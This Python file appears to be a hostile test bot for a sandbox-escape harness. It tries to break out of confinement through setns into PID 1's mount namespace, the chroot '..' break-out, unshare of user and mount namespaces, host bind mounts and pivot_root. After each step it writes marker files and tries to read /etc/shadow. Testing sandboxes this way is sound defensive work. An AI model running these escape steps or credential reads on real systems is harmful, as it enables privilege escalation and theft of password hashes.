"""Hostile Tanks bot: unshare, mount, chroot, setns.

The bot tries to rebuild its own view of the machine: a new user namespace
(to get capabilities), a new mount namespace, mounts (tmpfs, a bind of /,
proc, the host's disk), the classic chroot break-out (chroot into a
subdirectory, climb "..", chroot "."), setns() into PID 1's mount
namespace and pivot_root. After each step it tries to write a marker on
the host's /tmp and read the host's /etc/shadow: the escape driver looks for
both.
"""
# @ESCAPE_PRELUDE@


import ctypes
import hashlib

CLONE_NEWNS = 0x00020000
CLONE_NEWUSER = 0x10000000


def prove(step):
    token = CFG.get('token', 'cfesc')
    for d in ['/tmp', '/dev/shm'] + list(CFG.get('write_dirs', [])):
        try:
            with open(os.path.join(d, '%s-%s' % (token, step)), 'w') as f:
                f.write('after %s\n' % step)
            note('wrote %s after %s' % (d, step))
        except OSError:
            pass
    try:
        with open('/etc/shadow', 'rb') as f:
            digest = hashlib.sha256(f.read()).hexdigest()
        if digest in CFG.get('secret_digests', []):
            evidence('read the host\'s /etc/shadow after %s' % step)
    except OSError:
        pass


def attack():
    lib = libc()
    # setns() into the mount namespace of PID 1 (the host's, if PIDs are shared).
    try:
        fd = os.open('/proc/1/ns/mnt', os.O_RDONLY)
        r = lib.setns(fd, 0)
        note('setns(/proc/1/ns/mnt) -> %d errno %d' % (r, ctypes.get_errno()))
        os.close(fd)
        if r == 0:
            prove('setns')
    except OSError as e:
        note('setns: %s' % e)
    # The chroot break-out: needs a directory it may create.
    for base in ('/tmp', '/dev/shm', os.getcwd()):
        inner = os.path.join(base, CFG.get('token', 'cfesc') + '-jail')
        try:
            os.mkdir(inner)
        except OSError:
            if not os.path.isdir(inner):
                continue
        try:
            keep = os.open('/', os.O_RDONLY)
            os.chroot(inner)
            os.fchdir(keep)
            for _ in range(64):
                os.chdir('..')
            os.chroot('.')
            note('chroot break-out done from %s' % base)
            prove('chroot')
            break
        except OSError as e:
            note('chroot from %s: %s' % (base, e))
    uid, gid = os.getuid(), os.getgid()
    r = lib.unshare(CLONE_NEWUSER)
    note('unshare(NEWUSER) -> %d errno %d' % (r, ctypes.get_errno()))
    if r == 0:
        for path, text in (('/proc/self/setgroups', 'deny'),
                           ('/proc/self/uid_map', '0 %d 1' % uid),
                           ('/proc/self/gid_map', '0 %d 1' % gid)):
            try:
                with open(path, 'w') as f:
                    f.write(text)
            except OSError as e:
                note('%s: %s' % (path, e))
    r = lib.unshare(CLONE_NEWNS)
    note('unshare(NEWNS) -> %d errno %d' % (r, ctypes.get_errno()))
    # Mounts only in a mount namespace of its own: the same calls in the
    # host's namespace (an unsandboxed run as root) would change the host.
    if r == 0:
        mounts = [(b'none', b'/', None, 0x4000 | 0x40000),        # MS_REC|MS_PRIVATE
                  (b'tmpfs', b'/tmp', b'tmpfs', 0),
                  (b'/', b'/mnt', None, 0x1000 | 0x4000),          # MS_BIND|MS_REC
                  (b'proc', b'/proc', b'proc', 0)]
        for dev in CFG.get('host_disks', []):
            mounts.append((dev.encode(), b'/mnt', b'ext4', 1))      # MS_RDONLY
        for src, dst, fstype, flags in mounts:
            m = lib.mount(src, dst, fstype, flags, None)
            note('mount(%s, %s) -> %d errno %d' % (src, dst, m, ctypes.get_errno()))
        try:
            with open('/mnt/etc/shadow', 'rb') as f:
                if hashlib.sha256(f.read()).hexdigest() in CFG.get('secret_digests', []):
                    evidence('read the host\'s /etc/shadow through a mount')
        except OSError:
            pass
        p = lib.syscall(155, b'/tmp', b'/tmp')  # pivot_root
        note('pivot_root -> %d errno %d' % (p, ctypes.get_errno()))
    prove('mount')


# @ESCAPE_ATTACK_MAIN@
